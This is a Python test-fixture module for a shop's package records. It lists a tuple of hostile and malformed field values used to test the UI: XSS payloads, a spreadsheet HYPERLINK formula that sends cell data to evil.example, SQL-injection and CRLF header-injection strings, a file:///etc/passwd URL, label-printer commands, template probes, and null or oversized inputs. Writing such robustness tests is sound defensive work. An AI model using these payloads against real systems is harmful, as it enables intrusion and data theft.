"""Texts that a shop really receives, or that someone types to see what happens."""

from collections.abc import Callable

from packages_ui.sandbox.records import Record


def _address(**fields: object) -> Callable[[Record], None]:
    def change(record: Record) -> None:
        record.body["shipping_address"].update(fields)

    return change


def _body(**fields: object) -> Callable[[Record], None]:
    def change(record: Record) -> None:
        record.body.update(fields)

    return change


def _without(*names: str) -> Callable[[Record], None]:
    def change(record: Record) -> None:
        for name in names:
            record.body.pop(name, None)

    return change


def _all_null(record: Record) -> None:
    kept = {"number", "order_number", "status", "updated_at", "created_at"}
    record.body.update({name: None for name in record.body if name not in kept})


HOSTILE: tuple[Callable[[Record], None], ...] = (
    _address(first_name="<script>alert(1)</script>", notes="<img src=x onerror=alert(2)>"),
    _address(first_name='=HYPERLINK("http://evil.example/?x="&A1,"Tıkla")', last_name="@SUM(1+1)"),
    _address(first_name="^XZ^XA^FO50,50^FDHACKED^FS^XZ", line="~JA ^XZ _41 \\& ~DYR:A"),
    _address(first_name="Wolfeschlegelsteinhausenbergerdorff" * 6, line="Çok uzun bir sokak adı " * 30),
    _address(first_name="محمد", last_name="\u202eزيلمي\u202c", line="شارع الاستقلال ١٢٣"),
    _body(notes="{{ 7*7 }} {% csrf_token %} ${7*7}", gift_box_note="</textarea><svg onload=alert(3)>"),
    _body(tracking_url="javascript:alert(4)", invoice_url="file:///etc/passwd"),
    _address(first_name="O'Brien; DROP TABLE packages;--", company_name="%s%n\r\nSet-Cookie: a=b"),
    _address(first_name="🎁👨‍👩‍👧‍👦", last_name="Z̴a̷l̸g̵o̶"),
    _without("billing_address", "gift_box_note", "invoice_url", "tracking_url"),
    _body(shipping_address=None, billing_address=None),
    _all_null,
    _body(status=1),
    _body(status=9),
    _body(has_gift_box=None, currency=None, date_placed=None, shipping_company=None),
)
